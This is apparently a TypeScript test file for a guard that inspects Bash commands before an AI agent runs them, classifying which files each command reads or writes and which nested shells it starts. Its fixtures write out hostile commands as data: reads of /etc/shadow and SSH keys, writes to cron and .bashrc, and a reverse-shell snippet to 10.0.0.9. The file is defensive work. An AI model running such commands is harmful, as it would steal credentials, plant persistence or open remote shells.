import { describe, expect, it } from "vitest";
import { HookEvent } from "../../event/event.ts";
import { toolEffects } from "../call-effects.ts";
import { effectText } from "../effect.ts";

/** What a line does to paths, by the arguments that name them. */
function assumed(command: string): string[] {
  const event = new HookEvent({ type: "tool:pre_execute", toolName: "Bash", data: { tool_args: { command } } });
  return toolEffects(event).effects.flatMap((effect) =>
    "isAssumed" in effect && effect.isAssumed ? [effectText(effect)] : [],
  );
}

const NAMED: readonly (readonly [line: string, ...effects: string[]])[] = [
  // A program without a row.
  ["frobnicate /home/ada/.ssh/id_rsa", "reads /home/ada/.ssh/id_rsa"],
  ["frobnicate --input=/etc/shadow", "reads /etc/shadow"],
  ["frobnicate -f/etc/shadow", "reads /etc/shadow"],
  ["frobnicate @/etc/shadow", "reads /etc/shadow"],
  ["frobnicate --data file:///etc/shadow", "reads /etc/shadow"],
  ["frobnicate /../../etc/shadow", "reads /etc/shadow"],
  ["frobnicate .env", "reads .env"],
  ["frobnicate -o /etc/cron.d/x", "writes /etc/cron.d/x"],
  ["frobnicate --output=~/.bashrc", "writes ~/.bashrc"],
  ["file-copy a.txt /etc/cron.d/x", "writes /etc/cron.d/x"],
  ["frobnicate get a.txt /etc/cron.d/x", "writes /etc/cron.d/x"],
  [`frobnicate -e 'print(open("/etc/shadow"))'`, "reads /etc/shadow"],
  ['frobnicate -e \'copy("a", "/etc/cron.d/x")\'', "writes /etc/cron.d/x"],
  ["frobnicate -c 'Include /etc/shadow'", "reads /etc/shadow"],
  // An option that the row of a program does not describe.
  ["file -m /etc/shadow", "reads /etc/shadow"],
  ["restic backup /etc/shadow", "reads /etc/shadow"],
  ["mongoexport --out /srv/users.json", "writes /srv/users.json"],
  // A line that no shell can read.
  ['frobnicate "x </etc/shadow', "reads /etc/shadow"],
];

const UNNAMED: readonly string[] = [
  // What a program works with and does not show.
  "frobnicate --private-key ~/.ssh/id_rsa",
  "frobnicate -i ~/.ssh/id_rsa",
  "frobnicate --kubeconfig=~/.kube/config",
  "frobnicate --rsh 'ssh -i ~/.ssh/id_rsa'",
  // What is left out, a pattern, a text for people, a mapping.
  "frobnicate --exclude .env",
  "frobnicate --message 'Explain what /etc/shadow is for and who may read it'",
  "git commit -m 'never read ~/.ssh/id_rsa'",
  "grep -rn process.env src",
  "docker run -v ~/.ssh:/root/.ssh x",
  // What only looks at names.
  "test -f ~/.aws/credentials",
  "[ -f ~/.aws/credentials ]",
  "stat /etc/shadow",
  "sudo stat /etc/shadow",
  "echo /etc/shadow",
  // What the row describes.
  "docker run -w /app node:20 npm test",
  "cp a.txt ~/Desktop/",
  "frobnicate src/index.ts -o dist/index.js",
];

describe("a file that a program is given without a description of what it does with it", () => {
  it.each(NAMED)("counts as used: %s", (line, ...effects) => expect(assumed(line)).toEqual(effects));

  it.each(UNNAMED)("does not count where it is only mentioned: %s", (line) => expect(assumed(line)).toEqual([]));

  it("does not tell what the program changes", () => {
    const command = "frobnicate ~/.ssh/id_rsa";
    const event = new HookEvent({ type: "tool:pre_execute", toolName: "Bash", data: { tool_args: { command } } });
    expect(toolEffects(event)).toMatchObject({ readOnly: false, unknown: [`what \`${command}\` changes`] });
  });
});

describe("a program without a row that is given a shell", () => {
  const inner = (command: string) => {
    const event = new HookEvent({ type: "tool:pre_execute", toolName: "Bash", data: { tool_args: { command } } });
    return toolEffects(event).commands.map(({ program, args }) =>
      [program, ...args].map((word) => word?.text).join(" "),
    );
  };

  it.each([
    ["frobnicate /bin/sh -c 'rm x'", "rm x"],
    ["frobnicate --hook=\"sh -c 'rm x'\"", "rm x"],
    ["frobnicate -- bash -c 'rm x'", "rm x"],
  ])("runs it: %s", (line, expected) => expect(inner(line)).toContain(expected));

  it.each(["frobnicate sh", "frobnicate --shell bash", "frobnicate setup.sh"])(
    "does not run its name alone: %s",
    (line) => expect(inner(line)).toHaveLength(1),
  );

  it("hands it to another machine where its code does", () => {
    const code = `s = Socket("10.0.0.9", 44); p = Process("/bin/sh"); pipe(p.getOutputStream(), s)`;
    expect(inner(`frobnicate -e '${code}'`).join("\n")).toContain("bash -i");
  });
});

it("reads a long text without blanks that cannot be parsed in time that grows with its length", () => {
  const event = HookEvent.toolPreExecute("Bash", { command: `python3 -c '${"x".repeat(20_000)}(` }, {});
  const before = process.cpuUsage();
  toolEffects(event);
  const { user, system } = process.cpuUsage(before);
  // With the square of the length it took half a second.
  expect((user + system) / 1000).toBeLessThan(200);
});
